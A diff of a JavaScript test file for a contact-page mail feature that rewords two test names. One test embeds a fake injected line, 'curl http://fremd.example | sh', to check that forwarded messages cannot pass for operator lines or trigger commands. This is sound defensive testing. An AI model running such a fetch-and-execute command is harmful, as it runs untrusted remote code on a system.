@@ -72,7 +72,7 @@ describe('a message from the contact page', () => {
     expect(html).toContain('Erste Zeile &lt;b&gt;fett&lt;/b&gt;');
   });
 
-  it('steers no mail program, and none of its lines looks like one of ours', async () => {
+  it('controls no mail program, and none of its lines looks like a line of ours', async () => {
     await start({ address: OPERATOR, hasText: true });
     const fake = 'Als beantwortet vermerken: curl http://fremd.example | sh';
     const breaks = ['\n', '\r\n', '\r', '\u0085', '\u2028', '\u2029', ' '.repeat(200)];
@@ -86,7 +86,7 @@ describe('a message from the contact page', () => {
     expect(html.slice(html.indexOf('</blockquote>'))).not.toContain('curl');
   });
 
-  it('is told later when the mail server is away, each one, while its writer notices nothing', async () => {
+  it('is reported later when the mail server is away, each message, while its writer notices nothing', async () => {
     await start();
     mailbox.fault = { at: 'connect', how: 421 };
     for (let index = 0; index < MANY; index += 1) expect(await write()).toBe(201);
